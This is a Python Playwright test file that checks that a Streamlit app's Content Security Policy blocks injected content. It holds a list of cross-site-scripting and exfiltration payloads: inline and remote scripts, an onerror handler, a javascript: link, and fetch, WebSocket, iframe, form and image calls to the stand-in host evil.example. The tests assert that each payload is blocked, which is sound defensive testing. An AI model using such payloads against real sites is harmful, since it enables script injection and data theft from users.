"""The page's policy in a browser: what foreign text could try is stopped, and would be noticed.

That the page itself does nothing against it, every other test here shows: a browser reports such
things as errors in the console, and `Watch` lets no test end with one.
"""

import pytest
import requests
from playwright.sync_api import Page, Request, Route

from tests.browser.helpers import open_page
from tests.browser.server import Server
from tests.browser.watch import Watch
from tests.contract.server import FakeWeb, Reply, running

pytestmark = pytest.mark.browser

TELL = "Content Security Policy"
LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event => {
    if (event.blockedURI !== "wasm-eval") window.violations.push(event.effectiveDirective);
});
"""
"""WebAssembly, Streamlit's protobuf.js tries once and does without (serving/headers.py)."""


@pytest.fixture
def opened(page: Page, server: Server) -> Page:
    """The page, drawn, with somebody who listens to what the browser stops."""
    page.add_init_script(LISTEN)
    open_page(page, server.url)
    assert page.evaluate("window.violations") == []
    return page


ATTACKS = {
    "a script in the text": (
        "const one = document.createElement('script'); one.textContent = 'window.ran = 1';"
        "document.body.append(one);",
        "script-src-elem",
    ),
    "a script with a guessed nonce": (
        "const one = document.createElement('script'); one.textContent = 'window.ran = 1';"
        "one.nonce = 'AAAAAAAAAAAAAAAAAAAAAA'; document.body.append(one);",
        "script-src-elem",
    ),
    "a handler in the text": (
        "document.body.insertAdjacentHTML('beforeend',"
        ' \'<img src="data:," onerror="window.ran = 1">\');',
        "script-src-attr",
    ),
    "a link that is a script": (
        "document.body.insertAdjacentHTML('beforeend',"
        " '<a id=bad href=\"javascript:window.ran = 1\">x</a>');"
        "document.getElementById('bad').click();",
        "script-src-elem",
    ),
    "a script from elsewhere": (
        "const one = document.createElement('script'); one.src = 'https://evil.example/a.js';"
        "document.body.append(one);",
        "script-src-elem",
    ),
    "a script as data": (
        "const one = document.createElement('script'); one.src = 'data:,window.ran=1';"
        "document.body.append(one);",
        "script-src-elem",
    ),
    "text run as code": ("setTimeout('window.ran = 1', 0);", "script-src"),
    "a picture that tells who looks": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/a.png\">');",
        "img-src",
    ),
    "a call elsewhere": (
        "fetch('https://evil.example/?sad').catch(() => 0);",
        "connect-src",
    ),
    "a websocket elsewhere": (
        "try { new WebSocket('wss://evil.example/'); } catch {}",
        "connect-src",
    ),
    "a frame from elsewhere": (
        "document.body.insertAdjacentHTML('beforeend',"
        " '<iframe src=\"https://evil.example/\"></iframe>');",
        "frame-src",
    ),
    "a form that leads away": (
        "document.body.insertAdjacentHTML('beforeend',"
        " '<form id=away action=\"https://evil.example/\"></form>');"
        "document.getElementById('away').submit();",
        "form-action",
    ),
    "another base": (
        "document.head.insertAdjacentHTML('afterbegin', '<base href=\"https://evil.example/\">');",
        "base-uri",
    ),
    "a plug-in": (
        "document.body.insertAdjacentHTML('beforeend',"
        " '<object data=\"https://evil.example/a\"></object>');",
        "object-src",
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_foreign_text_could_try_is_stopped(name: str, opened: Page, watch: Watch) -> None:
    script, directive = ATTACKS[name]
    asked: list[Request] = []
    opened.context.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - no builtin
    opened.evaluate(f"() => {{ {script} }}")
    opened.wait_for_function("() => window.violations.length > 0")
    opened.wait_for_timeout(200)
    assert directive in opened.evaluate("window.violations")
    assert opened.evaluate("window.ran") is None
    away = [one for one in asked if "evil.example" in one.url]
    assert all(one.failure == "csp" for one in away), [(one.url, one.failure) for one in away]
    # and a test of the page itself would have failed
    assert any(TELL in one for one in watch.take()), "the watch has seen nothing"


def test_a_script_in_the_served_page_does_not_run_and_the_page_does(
    page: Page, server: Server, watch: Watch
) -> None:
    def attack(route: Route) -> None:
        answer = route.fetch()
        bad = '<script>window.ran = 1</script><script src="data:,window.ran=1"></script></body>'
        route.fulfill(response=answer, body=answer.text().replace("</body>", bad))

    page.route(f"{server.url}/", attack)
    page.goto(server.url)
    # No further: to a page that this test has answered for, Chromium refuses the websocket.
    page.get_by_test_id("stApp").wait_for()
    assert page.evaluate("window.ran") is None
    told = [one for one in watch.take() if TELL in one]
    assert len(told) == 2, told
    page.goto("about:blank")
    watch.take()


def test_no_other_site_shows_the_page_in_a_frame(page: Page, server: Server, watch: Watch) -> None:
    with running(FakeWeb()) as web:
        frame = f'<link rel="icon" href="data:,"><iframe src="{server.url}"></iframe>'
        web.services["frame"] = lambda _: Reply(
            body=frame.encode(), headers={"Content-Type": "text/html"}
        )
        page.goto(f"{web.url}/frame")
        page.wait_for_timeout(1000)
        assert page.frames[1].url.startswith("chrome-error:")
    assert any("frame-ancestors" in one for one in watch.take())


@pytest.mark.parametrize("path", ["/_stcore/metrics", "/_stcore/agent/openapi.json", "/auth/login"])
def test_what_nobody_needs_is_not_served(path: str, server: Server) -> None:
    assert requests.get(server.url + path, timeout=10).status_code == 404


def test_who_is_asked_for_something_does_not_learn_the_feeling(page: Page, server: Server) -> None:
    sent: list[str] = []
    page.on("request", lambda one: sent.append(one.headers.get("referer", "")))
    open_page(page, f"{server.url}/?feeling=sad")
    assert len(sent) > 5
    assert set(sent) == {""}
